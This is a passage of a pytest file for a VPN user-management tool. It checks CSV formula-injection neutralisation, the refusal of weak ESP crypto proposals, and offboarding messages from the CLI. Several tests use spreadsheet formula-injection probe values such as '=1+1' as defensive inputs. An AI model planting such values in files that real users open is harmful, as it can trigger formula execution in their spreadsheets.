    assert bundle_records.PasswordFile.load(path).rows["u1"] == {**row, "id": "u1"}


def test_a_leading_carriage_return_is_neutralised_too() -> None:
    # (not through a file: the writer's "\n" line ending leaves a bare CR unquoted, and no cell can hold
    # one: names and e-mail addresses are validated, the other columns generated)
    for value in ("\r", "\r=1", " \r@x"):
        assert (
            bundle_records.csv_cell(value) == "'" + value and bundle_records.csv_value("'" + value) == value
        )


def test_an_older_passwords_file_with_raw_values_loads_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "passwords.csv"
    path.write_text("id,name,email,password,serial,created\nu1,=1+1,a@x.example,pw,ab,2030-01-01T00:00:00Z\n")
    loaded = bundle_records.PasswordFile.load(path)
    assert loaded.rows["u1"]["name"] == "=1+1" and not loaded.dirty


@pytest.mark.parametrize(
    ("change", "needle"),
    [
        (
            ("[aes256gcm16-ecp384, aes128gcm16-ecp256]", "[aes256gcm16-ecp384, 3des-sha1]"),
            "svpn_esp_proposals: ESP proposal '3des-sha1' is refused by the crypto policy: 3des: 3DES",
        ),
        (
            ("[aes256gcm16-ecp384, aes128gcm16-ecp256]", "[aes256gcm16-ecp384, aes128gcm16]"),
            "svpn_esp_proposals: ESP proposal 'aes128gcm16' has no DH group",
        ),
    ],
)
def test_sync_and_profiles_build_refuse_a_weak_farm_before_anything_changes(
    env: Env, run: Run, change: tuple[str, str], needle: str
) -> None:
    env.sync(STAFF[:1])
    all_yml = env.inventory / "group_vars" / "all.yml"
    all_yml.write_text(ALL_YML.replace(*change))
    before = snapshot(env.pki, env.bundles, env.passwords)
    code, _out, err = run(*env.sync_argv(env.roster(STAFF)))
    assert code == 2 and needle in err and "Traceback" not in err and err.count("\n") == 1
    code, _out, err = run(
        "profiles", "build", "jkim", "--bundles", env.bundles, "--dir", env.pki, "--inventory", env.inventory
    )
    assert code == 2 and needle in err and "Traceback" not in err
    assert snapshot(env.pki, env.bundles, env.passwords) == before  # no certificate, bundle or password
    # a legacy farm that opts out of PFS builds (the allowlist still holds)
    if "no DH group" in needle:
        all_yml.write_text(ALL_YML.replace(*change) + "svpn_esp_pfs_optional: true\n")
        assert run(*env.sync_argv(env.roster(STAFF)))[0] == 0


def test_the_cli_says_that_a_sync_alone_ends_no_session(env: Env, run: Run) -> None:
    """Offboarding by `svpn users sync` alone changes the PKI only: the CLI names the command that ends the
    revoked users' sessions (or the playbook that does both), and says nothing when nobody was revoked."""
    code, _, err = run(*env.sync_argv(env.roster(STAFF)))
    assert code == 0 and "end-sessions.yml" not in err
    code, _, err = run(*env.sync_argv(env.roster(STAFF[:-1])))
    assert code == 0
    gone = STAFF[-1][0]
    assert f"-e users={gone}" in err and "playbooks/end-sessions.yml" in err and "sync-users.yml" in err
